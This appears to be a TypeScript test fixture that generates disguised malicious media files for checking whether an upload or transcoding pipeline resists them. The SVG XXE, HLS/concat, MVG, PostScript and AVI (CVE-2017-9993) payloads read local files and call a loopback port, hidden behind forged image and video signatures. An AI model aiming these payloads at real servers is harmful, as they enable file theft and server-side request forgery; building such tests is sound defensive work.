import { boxesTo, iso } from './iso-boxes.ts'

/** Where an attack points: a folder with `canary.ts`, `canary.mov`, `canary.png` and `canary.txt`, and a loopback port. */
export interface Target {
  readonly folder: string
  readonly port: number
}

export interface Input {
  readonly name: string
  readonly bytes: Buffer
}

/** Texts that programs for media take for orders to open other files or addresses. */
const SCRIPTS: Readonly<Record<string, (target: Target) => string>> = {
  'hls-file': ({ folder }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${folder}/canary.ts\n#EXT-X-ENDLIST\n`,
  'hls-url': ({ port }) => `#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:${port}/a.ts\n#EXT-X-ENDLIST\n`,
  'hls-concat': ({ folder, port }) =>
    `#EXTM3U\n#EXTINF:1,\nconcat:http://127.0.0.1:${port}/?|file://${folder}/canary.txt\n#EXT-X-ENDLIST\n`,
  'hls-subfile': ({ folder }) => `#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,9,,:${folder}/canary.ts\n`,
  concat: ({ folder }) => `ffconcat version 1.0\nfile '${folder}/canary.mov'\n`,
  'concat-url': ({ port }) => `ffconcat version 1.0\nfile 'http://127.0.0.1:${port}/a.mp4'\n`,
  sdp: ({ port }) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} TCP 33\na=rtpmap:33 MP2T/90000\n`,
  dash: ({ port }) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>http://127.0.0.1:${port}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  svg: ({ folder, port }) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48"><image width="64" height="48" xlink:href="file://${folder}/canary.png"/><image width="9" height="9" href="http://127.0.0.1:${port}/a.png"/></svg>`,
  'svg-entity': ({ folder }) =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${folder}/canary.txt">]><svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"><text y="20">&x;</text></svg>`,
  msl: ({ folder, port }) =>
    `<?xml version="1.0"?><image><read filename="${folder}/canary.png"/><read filename="http://127.0.0.1:${port}/a.png"/></image>`,
  mvg: ({ port }) =>
    `push graphic-context\nviewbox 0 0 64 48\nfill 'url(http://127.0.0.1:${port}/a.png)'\nimage over 0,0 0,0 'http://127.0.0.1:${port}/b.png'\npop graphic-context\n`,
  postscript: ({ folder }) =>
    `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n(${folder}/canary.txt) run\n`,
  pdf: ({ port }) =>
    `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://127.0.0.1:${port}/)>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  image2: ({ folder }) => `${folder}/canary.png\n`,
}

const le32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(value >>> 0)
  return bytes
}

const latin = (text: string) => Buffer.from(text, 'latin1')

const riff = (form: string, body: Buffer) =>
  Buffer.concat([latin('RIFF'), le32(body.length + 4), latin(form), body])

/** Signatures behind which a script can hide: each makes the first bytes those of a format that is read. */
const DISGUISES: Readonly<Record<string, (script: Buffer) => Buffer>> = {
  bare: (script) => script,
  jpeg: (script) => Buffer.concat([latin('\xff\xd8\xff\xe0\0\x10JFIF\0\n'), script]),
  png: (script) => Buffer.concat([latin('\x89PNG\r\n\x1a\n'), script]),
  gif: (script) => Buffer.concat([latin('GIF89a\n'), script]),
  tiff: (script) => Buffer.concat([latin('II*\0\n'), script]),
  webp: (script) => riff('WEBP', script),
  avi: (script) => riff('AVI ', script),
  'avi-subtitle': (script) => aviWithSubtitle(script),
  matroska: (script) => Buffer.concat([latin('\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska\n'), script]),
  mp4: (script) => Buffer.concat([iso('ftyp', latin('isom\0\0\0\0isom')), iso('mdat', script)]),
  quicktime: (script) => iso('moov', iso('udta', script)),
  heic: (script) => Buffer.concat([iso('ftyp', latin('heic\0\0\0\0heic')), script]),
  avif: (script) => Buffer.concat([iso('ftyp', latin('avif\0\0\0\0avif')), script]),
}

const NAMES = ['mp4', 'mov', 'jpg', 'png', 'm3u8', 'svg', 'avi', 'webm']

/** Every script in every disguise, each under a name of media. */
export function attacks(target: Target): Input[] {
  return Object.entries(SCRIPTS).flatMap(([kind, script], row) =>
    Object.entries(DISGUISES).map(([disguise, hide], column) => ({
      name: `${kind}-${disguise}.${NAMES[(row + column) % NAMES.length]}`,
      bytes: hide(Buffer.from(script(target))),
    })),
  )
}

/** An AVI whose one subtitle stream carries a script where a demuxer would look for a demuxer (CVE-2017-9993). */
function aviWithSubtitle(script: Buffer): Buffer {
  const chunk = (name: string, body: Buffer) =>
    Buffer.concat([latin(name), le32(body.length), body, Buffer.alloc(body.length % 2)])
  const list = (name: string, body: Buffer) => chunk('LIST', Buffer.concat([latin(name), body]))
  const main = Buffer.alloc(56)
  main.writeUInt32LE(100_000, 0)
  main.writeUInt32LE(1, 24)
  const stream = Buffer.alloc(56)
  stream.write('txts')
  stream.writeUInt32LE(1, 20)
  stream.writeUInt32LE(1, 24)
  const streams = list('strl', Buffer.concat([chunk('strh', stream), chunk('strf', Buffer.alloc(4))]))
  const subtitle = Buffer.concat([
    latin('GAB2\0\x02\0'),
    le32(0),
    latin('\x04\0'),
    le32(script.length),
    script,
  ])
  const body = list('hdrl', Buffer.concat([chunk('avih', main), streams]))
  return riff('AVI ', Buffer.concat([body, list('movi', chunk('00tx', subtitle))]))
}

/**
 * A QuickTime file as it is, but its pictures lie in another file that it names, and its own are blank.
 * @param movie QuickTime with its table of contents at the end, whose frames lie where `path` has them.
 * @internal
 */
export function withDataReference(movie: Buffer, path: string): Buffer {
  const entry = iso('alis', Buffer.concat([Buffer.alloc(4), alias(path)]))
  const reference = iso('dref', Buffer.concat([latin('\0\0\0\0\0\0\0\x01'), entry]))
  const boxes = boxesTo(movie, ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref'])
  const old = boxes.at(-1)!
  const grown = Buffer.concat([movie.subarray(0, old.start), reference, movie.subarray(old.start + old.size)])
  for (const { start, size } of boxes.slice(0, -1)) {
    grown.writeUInt32BE(size + reference.length - old.size, start)
  }
  const [data] = boxesTo(movie, ['mdat'])
  grown.fill(0, data!.start + 8, data!.start + data!.size)
  return grown
}

/** A Macintosh alias record, as far as ffmpeg reads one: names, no levels, and the absolute path (tag 2). */
function alias(path: string): Buffer {
  const names = Buffer.alloc(10 + 28 + 12 + 64 + 16 + 4 + 16)
  const tagged = Buffer.alloc(4)
  tagged.writeUInt16BE(2, 0)
  tagged.writeUInt16BE(Buffer.byteLength(path), 2)
  const even = Buffer.from(path.length % 2 === 0 ? path : `${path}\0`)
  return Buffer.concat([names, tagged, even, latin('\xff\xff\0\0'), Buffer.alloc(16)])
}

/** ffmpeg's options with which the attacks work, to prove that they are attacks. @internal */
export function controls({ folder }: Pick<Target, 'folder'>): { name: string; options: string[] }[] {
  const all = ['-protocol_whitelist', 'file,http,tcp,crypto,concat,subfile']
  return [
    { name: 'hls-file-bare', options: [...all, '-f', 'hls', '-i', `${folder}/hls-file-bare.mp4`] },
    {
      name: 'concat-bare',
      options: [...all, '-f', 'concat', '-safe', '0', '-i', `${folder}/concat-bare.m3u8`],
    },
    {
      name: 'reference.mov',
      options: ['-enable_drefs', '1', '-use_absolute_path', '1', '-i', `${folder}/reference.mov`],
    },
  ]
}
